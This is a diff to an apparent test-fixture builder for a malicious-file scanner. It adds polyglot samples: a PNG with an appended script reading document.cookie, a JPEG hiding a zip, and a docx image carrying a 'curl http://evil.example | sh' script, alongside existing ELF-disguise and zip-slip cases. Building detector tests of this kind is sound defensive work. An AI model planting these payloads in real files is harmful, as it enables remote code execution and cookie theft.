@@ -292,6 +292,24 @@ async function build(): Promise<MaliciousFile[]> {
       /disguised/,
     ),
     malware('zip with an ELF named .png', 'icons.zip', buildZip([{ name: 'icon.png', data: elfExecutable() }]), /ELF/),
+    malware(
+      'zip with a PNG that has a script appended (a polyglot in an archive)',
+      'cats.zip',
+      buildZip([{ name: 'cat.png', data: Buffer.concat([png, text('<script>alert(document.cookie)</script>')]) }]),
+      /cat\.png.*after the end of the PNG/,
+    ),
+    malware(
+      'zip with a JPEG that hides a zip (a polyglot in an archive)',
+      'holiday.zip',
+      buildZip([{ name: 'beach.jpg', data: Buffer.concat([jpeg, buildZip([{ name: 'a.txt', data: text('hidden') }])]) }]),
+      /beach\.jpg.*after the end of the JPEG/,
+    ),
+    malware(
+      'docx whose picture has a script appended',
+      'brochure.docx',
+      docx({ extra: [{ name: 'word/media/image1.png', data: Buffer.concat([png, text('#!/bin/sh\ncurl http://evil.example | sh\n')]) }] }),
+      /image1\.png.*after the end of the PNG/,
+    ),
     unsafe(
       'zip with a path-traversal entry (zip slip)',
       'slip.zip',
